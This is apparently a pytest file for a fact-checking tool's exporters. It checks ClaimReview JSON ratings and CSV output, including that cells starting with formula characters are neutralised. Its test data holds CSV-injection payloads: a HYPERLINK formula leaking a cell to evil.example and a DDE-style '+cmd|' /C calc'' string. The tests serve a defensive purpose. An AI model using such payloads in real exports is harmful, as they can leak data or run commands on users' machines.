"""Exports from tables of cases: each verdict as a ClaimReview rating, and CSV rows as spreadsheets read them."""
import csv
import io
import json

import pytest

from checker.store.claims import add_article, add_claim, set_verdict
from checker.export import claim_reviews, spreadsheet_safe, write_claimreview, write_csv
from checker.store.workflow import set_status

TEXT = ("The city's budget for 2026 is NZ$1.2 billion, the council said. Turnout was 67 percent.\n\n"
        'The mayor called it "the first balanced budget in a decade", and fined the contractor €2.5 million.')

# verdict -> ratingValue and alternateName in the review (None: not exported)
RATINGS = [
    ("accurate", 4, "Accurate"),
    ("mostly_accurate", 3, "Mostly accurate"),
    ("partly_accurate", 2, "Partly accurate"),
    ("inaccurate", 1, "Inaccurate"),
    ("unverifiable", None, "Unverifiable"),
    ("unrated", None, None),
]


@pytest.fixture
def desk(empty_db):
    add_article(empty_db, id="budget-2026", title="Council sets budget", text=TEXT, url="https://news.example/budget",
                author="A. Reporter", published="2026-05-02")
    return empty_db


def rated(db, verdict, note="What the record shows."):
    claim_id = add_claim(db, article_id="budget-2026", quote="NZ$1.2 billion", kind="other",
                         claim=f"The 2026 budget is NZ$1.2 billion ({verdict}).", value=1.2e9, unit="NZD",
                         date_start="2026", sources=[{"url": "https://council.example/budget", "title": "Budget 2026"}])
    if verdict != "unrated":
        set_verdict(db, claim_id, verdict, note=note, by="editor")
        set_status(db, claim_id, "in_review", by="editor")
        set_status(db, claim_id, "published", by="reviewer")
    return claim_id


@pytest.mark.parametrize("verdict,value,words", RATINGS, ids=[r[0] for r in RATINGS])
def test_each_verdict_as_a_rating(desk, verdict, value, words):
    claim_id = rated(desk, verdict)
    reviews = claim_reviews(desk, claim_ids=[claim_id], org_name="Desk", org_url="https://desk.example",
                            base_url="https://facts.example/")
    if words is None:
        assert reviews == []
        return
    [review] = reviews
    rating = review["reviewRating"]
    assert rating["alternateName"] == words and rating["bestRating"] == 4 and rating["worstRating"] == 1
    assert rating.get("ratingValue") == value
    assert review["url"] == f"https://facts.example/-/claim/{claim_id}"
    assert review["itemReviewed"]["appearance"] == [{
        "@type": "CreativeWork", "url": "https://news.example/budget", "headline": "Council sets budget",
        "datePublished": "2026-05-02", "author": {"@type": "Person", "name": "A. Reporter"}}]
    assert review["itemReviewed"]["author"] == {"@type": "Person", "name": "A. Reporter"}
    assert review["itemReviewed"]["datePublished"] == "2026-05-02"
    assert review["reviewBody"] == "What the record shows."
    assert review["citation"] == [{"@type": "CreativeWork", "url": "https://council.example/budget", "name": "Budget 2026"}]
    assert review["author"] == {"@type": "Organization", "name": "Desk", "url": "https://desk.example"}


def test_only_published_claims_are_exported_unless_asked(desk):
    published = rated(desk, "accurate")
    in_review = add_claim(desk, article_id="budget-2026", quote="Turnout was 67 percent", kind="percentage",
                          claim="Turnout was 67%.")
    set_verdict(desk, in_review, "inaccurate", note="Turnout was 61%.", by="editor")
    set_status(desk, in_review, "in_review", by="editor")
    args = {"org_name": "Desk", "base_url": "https://facts.example"}
    assert [r["url"] for r in claim_reviews(desk, **args)] == [f"https://facts.example/-/claim/{published}"]
    everything = claim_reviews(desk, published_only=False, **args)
    assert [r["url"].rsplit("/", 1)[1] for r in everything] == [str(published), str(in_review)]
    # a published claim is dated by its first publication, an unpublished one by its verdict
    first = desk.execute("SELECT min(changed_at) FROM workflow_history WHERE claim_id = ? AND to_status = 'published'",
                         [published]).fetchone()[0]
    assert everything[0]["datePublished"] == first[:10]


def test_claimreview_is_a_json_array_that_keeps_every_character(desk):
    rated(desk, "accurate", note='Matches the council\'s "Budget 2026" – €, ₹ and Ω intact.')
    out = io.StringIO()
    assert write_claimreview(desk, out, org_name="Desk", base_url="https://facts.example") == 1
    [review] = json.loads(out.getvalue())
    assert review["reviewBody"] == 'Matches the council\'s "Budget 2026" – €, ₹ and Ω intact.'


@pytest.mark.parametrize("note", [
    "Plain.",
    'Has "quotes", commas, and\na line break.',
])
def test_csv_round_trips_every_note(desk, note):
    claim_id = rated(desk, "partly_accurate", note=note)
    out = io.StringIO()
    assert write_csv(desk, out, claim_ids=[claim_id]) == 1
    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["verdict_note"] == note
    assert (row["id"], row["verdict"], row["health"], row["value"], row["unit"]) == (
        str(claim_id), "partly_accurate", "unchecked", "1200000000", "NZD")
    assert row["source_count"] == "1" and row["supporting"] == "0"


# cell -> what the CSV holds: text a spreadsheet would run as a formula gets a leading quote; numbers
# (negative ones too) and other text stay as they are
SPREADSHEET_CELLS = [
    ('=HYPERLINK("https://evil.example/?leak="&A1,"Source")', '\'=HYPERLINK("https://evil.example/?leak="&A1,"Source")'),
    ("=1+2", "'=1+2"),
    ("+1+2", "'+1+2"),
    ("-1+2", "'-1+2"),
    ("-5", "'-5"),  # text, not a number: escaped like any other
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("A claim = a fact.", "A claim = a fact."),
    (" =1", " =1"),
    ("'quoted already", "'quoted already"),
    ("", ""),
    (-630000000, -630000000),
    (-1.5, -1.5),
    (42, 42),
    (None, None),
]


@pytest.mark.parametrize("cell,written", SPREADSHEET_CELLS)
def test_spreadsheet_safe(cell, written):
    assert spreadsheet_safe(cell) == written


def test_csv_cells_never_start_a_formula(desk):
    """Text a person typed (claim, quote, note, unit) starting with = + - @ is neutralised in the CSV;
    a negative figure stays a plain number."""
    claim_id = add_claim(desk, article_id="budget-2026", quote="fined the contractor", kind="other",
                         claim='=HYPERLINK("https://evil.example/","Click")', value=-2.5e6, unit="EUR",
                         date_start="2026")
    desk.execute("UPDATE claims SET unit = '@EUR' WHERE id = ?", [claim_id])  # as a script's write through the API may
    set_verdict(desk, claim_id, "inaccurate", note="+cmd|' /C calc'!A0", by="editor")
    out = io.StringIO()
    write_csv(desk, out, claim_ids=[claim_id])
    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["claim"] == '\'=HYPERLINK("https://evil.example/","Click")'
    assert row["verdict_note"] == "'+cmd|' /C calc'!A0"
    assert row["unit"] == "'@EUR"
    assert row["value"] == "-2500000"
    assert row["quote"] == "fined the contractor"
